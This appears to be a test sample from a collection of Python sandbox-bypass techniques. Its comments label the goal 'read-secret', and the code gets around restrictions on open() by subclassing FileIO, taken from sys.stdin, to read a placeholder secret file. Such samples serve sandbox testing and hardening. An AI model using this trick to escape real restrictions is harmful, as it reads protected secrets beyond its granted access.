# technique: a subclass of FileIO made from the class of an instance
# goal: read-secret
# source: own analysis
import sys


class File(type(sys.stdin.buffer.raw)):
    pass


print(File('@SECRET@').readall())
